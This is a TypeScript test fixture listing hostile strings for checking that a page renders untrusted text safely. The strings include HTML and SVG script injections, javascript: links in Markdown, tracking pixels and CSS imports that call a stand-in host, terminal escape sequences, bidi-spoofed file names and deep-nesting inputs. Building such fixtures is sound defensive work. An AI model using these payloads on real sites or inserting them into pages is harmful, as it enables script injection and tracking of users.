/** Texts that would run, load or hide something where a page shows them carelessly. `EVIL` is a server that counts its visitors. */

const EVIL = 'http://evil.invalid';

const RUN = "window.pwned=1;fetch('http://evil.invalid/ran')";

export const HOSTILE_TEXTS: readonly string[] = [
	`<script>${RUN}</script>`,
	`<script src="${EVIL}/x.js"></script>`,
	`<img src=x onerror="${RUN}">`,
	`<img src="${EVIL}/pixel.png">`,
	`<svg onload="${RUN}"></svg>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
	`<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
	`<iframe src="javascript:${RUN}"></iframe>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="${EVIL}/x.swf">`,
	`<link rel=stylesheet href="${EVIL}/x.css">`,
	`<style>@import "${EVIL}/x.css";</style>`,
	`<style>body{background:url(${EVIL}/bg.png)}</style>`,
	`<div style="background:url(${EVIL}/bg.png)">text</div>`,
	`<meta http-equiv=refresh content="0;url=${EVIL}/">`,
	`<base href="${EVIL}/">`,
	`<form action="${EVIL}/"><input name=q autofocus onfocus="${RUN}"><button>Go</button></form>`,
	`<details open ontoggle="${RUN}"><summary>x</summary></details>`,
	`<video src="${EVIL}/v.mp4" autoplay onerror="${RUN}"></video>`,
	`<audio src="${EVIL}/a.mp3" autoplay></audio>`,
	`<video><source onerror="${RUN}"></video>`,
	`<marquee onstart="${RUN}">x</marquee>`,
	`<body onload="${RUN}">`,
	`<a href="javascript:${RUN}">click</a>`,
	`<template><img src=x onerror="${RUN}"></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	`<textarea autofocus onfocus="${RUN}">`,
	`<!--><img src=x onerror="${RUN}">-->`,
	`<![CDATA[<img src=x onerror="${RUN}">]]>`,
	`<<script>${RUN}//<</script>`,
	`<img/src=x/onerror=${RUN}>`,
	`<IMG SRC=\`x\` ONERROR=\`${RUN}\`>`,
	`&lt;img src=x onerror="${RUN}"&gt;`,
	`&#60;script&#62;${RUN}&#60;/script&#62;`,
	`[click](javascript:${RUN})`,
	`[click](JaVaScRiPt:${RUN})`,
	`[click](java\tscript:${RUN})`,
	`[click](&#106;avascript:${RUN})`,
	`[click](data:text/html,<script>${RUN}</script>)`,
	`[click](vbscript:msgbox)`,
	`[click](file:///etc/passwd)`,
	`[click](//evil.invalid/x)`,
	`[click](\\\\evil.invalid\\x)`,
	`[click](http://evil.invalid/"onmouseover="${RUN})`,
	`[x]: javascript:${RUN}\n\n[x]`,
	`<javascript:${RUN}>`,
	`![pixel](${EVIL}/pixel.png)`,
	`![pixel](${EVIL}/pixel.png "title\\" onerror=\\"${RUN}")`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)`,
	`![x](javascript:${RUN})`,
	`[![nested](${EVIL}/in.png)](${EVIL}/out)`,
	`| a |\n|---|\n| <img src=x onerror="${RUN}"> ![p](${EVIL}/cell.png) |`,
	`- [ ] <input type=checkbox onclick="${RUN}" checked>`,
	`# <img src=x onerror="${RUN}">`,
	`> <script>${RUN}</script>`,
	`\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
	`\`\`\`"><img src=x onerror="${RUN}">\ncode\n\`\`\``,
	`\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${RUN}>"]\nclick A "javascript:${RUN}"\n\`\`\``,
	`$$\\href{javascript:${RUN}}{x}$$`,
	`$\\includegraphics{${EVIL}/x.png}$`,
	`\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007`,
	`\u001b[2J\u001b[31mred\u001b[0m`,
	`safe\u202Etxt.exe\u202C`,
	`zero\u200Bwidth\u2060joiner\uFEFF`,
	`tags \u{E0041}\u{E0042}\u{E0043}`,
	`${'>'.repeat(3000)} deep`,
	`${'*'.repeat(5000)}`,
	`${'['.repeat(3000)}`,
	`${'<div>'.repeat(2000)}`,
	`{{constructor.constructor('${RUN}')()}}`,
	`\${${RUN}}`,
	`</textarea></script></style></title><img src=x onerror="${RUN}">`
];

/** Names that a file system takes and a page must show for what they are. */
export const HOSTILE_NAMES: readonly string[] = [
	'<img src=x onerror=window.pwned=1>.txt',
	'"><svg onload=window.pwned=1>.csv',
	'report\u202Efdp.exe',
	'a&lt;script&gt;.md',
	'%3Cscript%3E.txt'
];

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${RUN}">
<script>${RUN}</script><image href="${EVIL}/in.png" width="9" height="9"/><style>@import "${EVIL}/in.css";</style>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/></foreignObject>
<a xlink:href="javascript:${RUN}"><rect width="40" height="40" fill="teal"/></a></svg>`;
